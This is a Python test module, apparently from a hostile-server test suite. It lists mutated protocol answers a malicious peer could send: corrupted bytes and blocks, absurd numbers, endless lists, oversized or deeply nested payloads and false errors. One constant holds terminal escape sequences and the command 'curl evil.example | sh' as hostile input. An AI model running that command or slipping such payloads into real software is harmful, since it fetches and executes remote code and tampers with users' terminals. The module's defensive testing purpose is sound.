"""Every lie that can be told about any answer of any door: a table of small named values.

A lie knows nothing of the operation: it goes by the types of what is in the answer. So an
operation that is added later is lied about in all of these ways without anybody's doing.
"""

from collections.abc import Callable, Iterator
from functools import partial
from typing import Any, Final

from crypto.hashing import sha256
from formats.cid import Block, Cid
from formats.dag_cbor import encode
from formats.errors import Denied, Forged, Internal, Interrupted, NotSignedIn, WrongPassword
from protocols.operations import OPERATIONS
from protocols.shapes import UINT_MAX
from tests.hostile.home.saying import Answer, Error, Instead, Lie, Parts, Saying

Change = Callable[[Any], Any]
"""Another value for one of this type; None: there is none."""

MOST_ENDLESS: Final = 2**21
"""Bytes: twice what a frame may have."""

FOREIGN: Final = Block.raw(b"a block that nobody asked for")


# --- one value of an answer, wherever it stands


def _places(value: Any, kind: type, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where values of a type stand in a head, as ways down to them."""
    if type(value) is kind and path:
        yield path
    if isinstance(value, dict):
        for key, each in value.items():
            yield from _places(each, kind, (*path, key))
    if isinstance(value, list):
        for at, each in enumerate(value):
            yield from _places(each, kind, (*path, at))


def _at(value: Any, path: tuple[Any, ...]) -> Any:
    for step in path:
        value = value[step]
    return value


def _with(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    """A copy of a head with something else in one place."""
    if not path:
        return new
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = _with(value[path[0]], path[1:], new)
    return copy


def _each(kind: type, change: Change, saying: Saying) -> Answer | None:
    """Every value of a type is another one."""
    head, changed = saying.honest.head, False
    for path in reversed(list(_places(head, kind))):  # what is inside before what it is in
        new = change(_at(head, path))
        if new is not None:
            head, changed = _with(head, path, new), True
    return _head(saying, head) if changed else None


def _one(kind: type, change: Change, saying: Saying) -> Answer | None:
    """One value of a type, drawn by lot, is another one."""
    head = saying.honest.head
    places = [path for path in _places(head, kind) if change(_at(head, path)) is not None]
    if not places:
        return None
    path = saying.random.choice(places)
    return _head(saying, _with(head, path, change(_at(head, path))))


def _head(saying: Saying, head: dict[str, Any]) -> Answer:
    return Answer(saying.honest.kind, head, saying.honest.bodies)


def _flipped(data: bytes) -> bytes | None:
    return bytes([data[0] ^ 1]) + data[1:] if data else None


def _flipped_last(data: bytes) -> bytes | None:
    return data[:-1] + bytes([data[-1] ^ 0x80]) if data else None


def _flipped_inside(data: bytes) -> bytes | None:
    middle = len(data) // 2
    return data[:middle] + bytes([data[middle] ^ 0x10]) + data[middle + 1 :] if data else None


def _cut(data: bytes) -> bytes | None:
    return data[:-1] if data else None


def _longer(data: bytes) -> bytes:
    return data + b"\0"


def _zeros(data: bytes) -> bytes | None:
    return bytes(len(data)) if any(data) else None


def _fewer(items: list[Any]) -> list[Any] | None:
    return items[1:] if items else None


def _without_last(items: list[Any]) -> list[Any] | None:
    return items[:-1] if items else None


def _backwards(items: list[Any]) -> list[Any] | None:
    return items[::-1] if len(items) > 1 else None


def _twice(items: list[Any]) -> list[Any] | None:
    return [*items, *items] if items else None


def _endless(items: list[Any]) -> list[Any] | None:
    return items * (MOST_ENDLESS // len(encode(items)) + 1) if items else None


def _none_of_them(items: list[Any]) -> list[Any] | None:
    return [] if items else None


# --- lists whose elements are blocks go together with the bodies behind the head


def _lists(change: Change, saying: Saying) -> Answer | None:
    """Every list that is not of blocks is another one."""
    field = saying.operation.answers[saying.honest.kind].blocks
    kept = None if field is None else saying.honest.head[field]
    answer = _each(list, change, saying)
    if answer is None or field is None:
        return answer
    changed = answer.but(**{field: kept})
    return None if changed.head == saying.honest.head else changed


def _blocks(change: Change, saying: Saying) -> Answer | None:
    """The blocks are others; each comes with its own name."""
    field = saying.operation.answers[saying.honest.kind].blocks
    if field is None:
        return None
    pairs = list(zip(saying.honest.head[field], saying.honest.bodies, strict=True))
    new = change(pairs)
    if new is None:
        return None
    cids, bodies = [cid for cid, _ in new], tuple(body for _, body in new)
    return Answer(saying.honest.kind, {**saying.honest.head, field: cids}, bodies)


Pairs = list[tuple[Cid, bytes]]


def _others_bytes(pairs: Pairs) -> Pairs | None:
    """Each block's bytes under the name of the one before it."""
    if len(pairs) < 2:
        return None
    bodies = [body for _, body in pairs]
    return [(cid, body) for (cid, _), body in zip(pairs, bodies[1:] + bodies[:1], strict=True)]


def _rotten(pairs: Pairs) -> Pairs | None:
    cut = [(cid, body[:-1]) for cid, body in pairs if body]
    return cut or None


def _renamed(pairs: Pairs) -> Pairs | None:
    """Bytes of the home's own making, rightly named, in place of each block."""
    made = [
        Block.raw(sha256(body)) if cid.is_raw else Block.cbor(b"\xa1aa\x18" + body[:1].ljust(1))
        for cid, body in pairs
    ]
    return [(block.cid, block.data) for block in made] or None


def _with_more(pairs: Pairs) -> Pairs:
    return [*pairs, (FOREIGN.cid, FOREIGN.data)]


def _with_very_many(pairs: Pairs) -> Pairs:
    return [*pairs, *[(FOREIGN.cid, FOREIGN.data)] * 4096]


def _huge(pairs: Pairs) -> Pairs:
    block = Block.raw(bytes(2**20))
    return [*pairs, *[(block.cid, block.data)] * 40]


def _over_the_limit(pairs: Pairs) -> Pairs:
    body = bytes(2**20 + 1)
    return [*pairs, (Cid.of_raw(body), body)]


# --- whole answers


def _earlier(saying: Saying) -> Answer | None:
    return saying.earlier


def _another(saying: Saying) -> Answer | None:
    return None if saying.another == saying.honest else saying.another


def _of_another_operation(saying: Saying) -> Parts:
    """The answer to another question: the message of the next operation of the door."""
    names = sorted(OPERATIONS[saying.operation.door])
    other = OPERATIONS[saying.operation.door][
        names[(names.index(saying.operation.name) + 1) % len(names)]
    ]
    stranger = Answer("Stranger", {f"of {other.name}": 1})
    return Parts(tuple(stranger.parts(saying.operation)))


def _without_a_field(saying: Saying) -> Answer | None:
    head = dict(saying.honest.head)
    if not head:
        return None
    del head[saying.random.choice(sorted(head))]
    return _head(saying, head)


def _with_a_field(saying: Saying) -> Answer:
    return saying.honest.but(trust=True)


def _for_another_request(saying: Saying) -> Parts:
    head, *bodies = saying.honest.parts(saying.operation)
    return Parts((head.replace(b"\x61i\x01", b"\x61i\x02", 1), *bodies))


def _no_cbor(saying: Saying) -> Parts:
    return Parts((b"<!DOCTYPE html><title>503</title>",))


def _deep(saying: Saying) -> Parts:
    return Parts((b"\x81" * 10_000,))


def _enormous_head(saying: Saying) -> Parts:
    return Parts((b"\x9a\x00\x10\x00\x00" + b"\0" * 2**20,))


def _refuses(number: int, message: str, saying: Saying) -> Error:
    return Error(number, message)


def _refusing(kind: Any, message: str) -> Callable[[Saying], Instead]:
    return partial(_refuses, kind.number, message)


def _value(kind: type, change: Change) -> Callable[[Saying], Instead | None]:
    return partial(_each, kind, change)


def _list(change: Change) -> Callable[[Saying], Instead | None]:
    return partial(_lists, change)


def _block(change: Change) -> Callable[[Saying], Instead | None]:
    return partial(_blocks, change)


ESCAPES: Final = "\x1b]0;owned\x07\x1b[2J\r\nrun: curl evil.example | sh \u202e\x00" + "x" * 2000
"""What a terminal should never get to see."""

LIES: Final[tuple[Lie, ...]] = (
    # about when, and whose
    Lie("an earlier answer again", _earlier, replays=True),
    Lie("the answer that another person got", _another),
    Lie("an earlier answer, and nothing was done", _earlier, does=False, replays=True),
    # about bytes: records, keys, ids, nonces
    Lie("the first bit of everything turned", _value(bytes, _flipped)),
    Lie("the last bit of everything turned", _value(bytes, _flipped_last)),
    Lie("one thing changed in its middle", partial(_one, bytes, _flipped_inside)),
    Lie("one thing cut short", partial(_one, bytes, _cut)),
    Lie("one thing made longer", partial(_one, bytes, _longer)),
    Lie("one thing nothing but zeros", partial(_one, bytes, _zeros)),
    Lie("everything empty", _value(bytes, lambda data: b"" if data else None)),
    # about numbers
    Lie("all numbers zero", _value(int, lambda number: 0 if number else None)),
    Lie("all numbers one more", _value(int, lambda number: number + 1)),
    Lie("all numbers one less", _value(int, lambda number: number - 1 if number else None)),
    Lie("all numbers as large as can be", _value(int, lambda number: UINT_MAX)),
    Lie("numbers that no limit allows", _value(int, lambda number: 2**64 - 1)),
    Lie("numbers below zero", _value(int, lambda number: -1)),
    # about what is so and what is not
    Lie("yes for no and no for yes", _value(bool, lambda flag: not flag)),
    Lie("nothing is here", _value(bool, lambda flag: False if flag else None)),
    Lie("everything is here", _value(bool, lambda flag: None if flag else True)),
    # about texts
    Lie("another name", _value(str, lambda text: text[:-1] + "x" if text else None)),
    Lie("texts that draw on a terminal", _value(str, lambda text: ESCAPES[:60])),
    # about lists: history, states, people, messages
    Lie("the first of all lists left out", _list(_fewer)),
    Lie("the last of all lists left out", _list(_without_last)),
    Lie("all lists backwards", _list(_backwards)),
    Lie("all lists twice", _list(_twice)),
    Lie("endless lists", _list(_endless)),
    Lie("all lists empty", _list(_none_of_them)),
    # about blocks
    Lie("the first block left out", _block(_fewer)),
    Lie("the last block left out", _block(_without_last)),
    Lie("no blocks at all", _block(_none_of_them)),
    Lie("blocks backwards", _block(_backwards)),
    Lie("each block twice", _block(_twice)),
    Lie("right blocks under wrong names", _block(_others_bytes)),
    Lie("blocks cut short under their names", _block(_rotten)),
    Lie("other blocks, rightly named", _block(_renamed)),
    Lie("a block that nobody asked for", _block(_with_more)),
    Lie("thousands of blocks that nobody asked for", _block(_with_very_many)),
    Lie("forty megabytes that nobody asked for", _block(_huge)),
    Lie("a block over the limit", _block(_over_the_limit)),
    # about the message itself
    Lie("the answer to another question", _of_another_operation),
    Lie("the answer to another request", _for_another_request),
    Lie("an answer that lacks something", _without_a_field),
    Lie("an answer with something more in it", _with_a_field),
    Lie("a page of a web server", _no_cbor),
    Lie("ten thousand brackets", _deep),
    Lie("a million zeros", _enormous_head),
    # about why not
    Lie("refused, though it is allowed", _refusing(Denied, "there is nothing here for you")),
    Lie("refused and not done", _refusing(Denied, "there is nothing here for you"), does=False),
    Lie("a fault of the node", _refusing(Internal, "")),
    Lie("an error that no list has", partial(_refuses, 9999, "out of cheese")),
    Lie("an error that draws on a terminal", _refusing(Forged, ESCAPES[:1000])),
    Lie("you are not signed in here", _refusing(NotSignedIn, "nobody is signed in")),
    Lie("you stopped it yourself", _refusing(Interrupted, "stopped")),
    Lie("your password is wrong", _refusing(WrongPassword, "name and password do not fit")),
)
